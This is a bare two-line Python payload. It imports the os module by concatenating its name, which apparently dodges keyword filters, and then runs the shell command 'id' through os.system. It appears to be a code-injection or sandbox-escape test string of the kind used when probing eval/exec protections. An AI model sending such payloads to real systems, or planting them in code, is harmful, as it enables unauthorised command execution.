globals()['os'] = __import__('o' + 's')
os.system('id')
